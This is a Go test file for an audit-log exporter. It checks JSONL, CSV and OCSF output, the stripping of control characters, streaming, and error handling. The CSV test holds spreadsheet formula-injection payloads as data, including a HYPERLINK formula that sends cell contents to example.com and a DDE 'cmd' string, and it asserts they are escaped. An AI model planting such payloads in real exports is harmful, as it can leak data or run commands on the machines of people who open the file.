package audit_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/aws-root-account/rootbot/bot/audit"
	"github.com/aws-root-account/rootbot/bot/request"
)

func export(t *testing.T, format string, list ...request.Event) string {
	t.Helper()
	var b bytes.Buffer
	if err := audit.Export(&b, format, ofAll(list)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestEveryKindOfEventInEveryForm(t *testing.T) {
	for _, format := range audit.Formats {
		t.Run(format, func(t *testing.T) {
			golden(t, "every-kind."+format, export(t, format, everyKind(t)...))
		})
	}
}

func TestAFormThatIsntThere(t *testing.T) {
	for _, format := range []string{"", "xml", "JSONL", "json"} {
		var b bytes.Buffer
		err := audit.Export(&b, format, func(func(request.Event, error) bool) { t.Error("events were read") })
		if err == nil || b.Len() > 0 {
			t.Errorf("%q: error %v, written %q", format, err, b.String())
			continue
		}
		for _, name := range append(audit.Formats, fmt.Sprintf("%q", format)) {
			if !strings.Contains(err.Error(), name) {
				t.Errorf("%q doesn't name %s", err, name)
			}
		}
	}
}

// decoded is a line of the form jsonl.
type decoded struct {
	Seq                     int64
	At                      time.Time
	Request, Kind, By, Hash string
	Data                    map[string]any
}

func TestALineOfJSONIsTheEvent(t *testing.T) {
	list := append(everyKind(t),
		event(t, "told", "a\u202eb\x7f\u200b\U000e0041", data{"<&>": "\x1b[31m\u2028é🦦", "none": nil}),
		request.Event{At: time.Date(2026, time.March, 2, 13, 0, 0, 5000, time.FixedZone("", 3600))},
	)
	lines := strings.Split(strings.TrimSuffix(export(t, "jsonl", list...), "\n"), "\n")
	if len(lines) != len(list) {
		t.Fatalf("%d lines for %d events", len(lines), len(list))
	}
	for i, line := range lines {
		var got decoded
		if err := json.Unmarshal([]byte(line), &got); err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		e := list[i]
		want := decoded{e.Seq, e.At.UTC(), e.Request, e.Kind, e.By, e.Hash, e.Data}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("event %d (-want +got):\n%s", i, diff)
		}
	}
	if last := lines[len(lines)-1]; !strings.Contains(last, `"at":"2026-03-02T12:00:00.000005Z"`) {
		t.Errorf("not in UTC to the microsecond: %s", last)
	}
}

func TestNoFormHoldsWhatCantBeSeen(t *testing.T) {
	const nasty = "\x1b[2J\x07\r\n\t\x00\x7f\u0085\u009b\u200b\u202e\u2028\u2066\ufeff\U000e0041\xff é🦦"
	e := request.Event{At: noon, Kind: nasty, By: nasty, Request: nasty, Hash: nasty, Data: data{nasty: nasty, "reason": nasty}}
	for _, format := range audit.Formats {
		text := export(t, format, e)
		for i, r := range text {
			if strings.ContainsRune("\x1b\x07\t\x00\x7f\u0085\u009b\u200b\u202e\u2028\u2066\ufeff\U000e0041", r) || r < ' ' && r != '\r' && r != '\n' {
				t.Errorf("%s holds %q at %d", format, r, i)
			}
		}
		if !strings.Contains(text, "é🦦") {
			t.Errorf("%s doesn't hold what can be seen: %s", format, text)
		}
	}
}

func TestNoCellOfTheTableIsAFormula(t *testing.T) {
	for _, test := range []struct{ name, by, want string }{
		{"an equals sign begins a formula", `=HYPERLINK("http://example.com/"&A1,"otter")`, `'=HYPERLINK("http://example.com/"&A1,"otter")`},
		{"a plus begins a formula", "+1+1", "'+1+1"},
		{"a minus begins a formula", "-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"an at sign begins a formula", "@SUM(1)", "'@SUM(1)"},
		{"a tab is passed over by spreadsheets", "\t=1", `'\t=1`},
		{"a carriage return is passed over by spreadsheets", "\r=1", `'\r=1`},
		{"so is a line feed", "\n=1", `'\n=1`},
		{"and a NUL", "\x00=1", `'\x00=1`},
		{"a sign of full width begins a formula too", "＝1", "'＝1"},
		{"a sign in the middle is a sign", "a=b", "a=b"},
		{"quotes and commas stay in their cell", `a","=1`, `a","=1`},
		{"an apostrophe stays as it is", "'a", "'a"},
		{"a login stays as it is", "otter", "otter"},
		{"an empty cell stays empty", "", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			text := export(t, "csv", request.Event{Seq: 7, At: noon, Request: cafe, Kind: "asked", By: test.by, Data: data{"a": test.by}, Hash: hash})
			rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != 2 || len(rows[1]) != 7 {
				t.Fatalf("rows %q", rows)
			}
			if got := rows[1][4]; got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
			var in map[string]any
			if err := json.Unmarshal([]byte(rows[1][5]), &in); err != nil || in["a"] != test.by {
				t.Errorf("data %q: %v", rows[1][5], err)
			}
			if strings.Count(text, "\r\n") != strings.Count(text, "\n") {
				t.Errorf("a line doesn't end as RFC 4180 has it: %q", text)
			}
		})
	}
}

func TestAnExportOfNothing(t *testing.T) {
	want := map[string]string{"jsonl": "", "csv": "seq,at,request,kind,by,data,hash\r\n", "ocsf": ""}
	for _, format := range audit.Formats {
		if got := export(t, format); got != want[format] {
			t.Errorf("%s: %q", format, got)
		}
	}
}

func TestEventsAreWrittenWhileTheyAreRead(t *testing.T) {
	e := event(t, "step-begun", "otter", data{"step": strings.Repeat("x", 1000)})
	for _, format := range audit.Formats {
		var b bytes.Buffer
		most := 0 // bytes that were read and not yet written
		err := audit.Export(&b, format, func(yield func(request.Event, error) bool) {
			for i := range 2_000 {
				e.Seq = int64(i + 1)
				most = max(most, i*1000-b.Len())
				if !yield(e, nil) {
					return
				}
			}
		})
		if err != nil || b.Len() < 2_000*1000 {
			t.Errorf("%s: %d bytes, %v", format, b.Len(), err)
		}
		if most > 100_000 {
			t.Errorf("%s: %d bytes were held back", format, most)
		}
	}
}

func TestAnExportEndsAtTheFirstError(t *testing.T) {
	broken := errors.New("broken")
	for _, format := range audit.Formats {
		t.Run("of the store, "+format, func(t *testing.T) {
			var b bytes.Buffer
			err := audit.Export(&b, format, func(yield func(request.Event, error) bool) {
				if yield(event(t, "asked", "otter", nil), nil) && yield(request.Event{}, broken) {
					t.Error("more was wanted after an error")
				}
			})
			if !errors.Is(err, broken) || !strings.Contains(b.String(), "asked") {
				t.Errorf("error %v, written %q", err, b.String())
			}
		})
		t.Run("of who reads, "+format, func(t *testing.T) {
			read := 0
			err := audit.Export(full{broken}, format, func(yield func(request.Event, error) bool) {
				for yield(event(t, "told", "", data{"message": strings.Repeat("x", 10_000)}), nil) {
					if read++; read > 100 {
						t.Error("it doesn't end")
						return
					}
				}
			})
			if !errors.Is(err, broken) {
				t.Errorf("error %v", err)
			}
		})
		t.Run("of an event that isn't JSON, "+format, func(t *testing.T) {
			e := request.Event{Seq: 12, At: noon, Kind: "told", Data: data{"n": math.Inf(1)}}
			err := audit.Export(&bytes.Buffer{}, format, ofAll([]request.Event{e}))
			if err == nil || !strings.Contains(err.Error(), "event 12") {
				t.Errorf("error %v", err)
			}
		})
	}
}

// full takes nothing.
type full struct{ err error }

func (f full) Write([]byte) (int, error) { return 0, f.err }
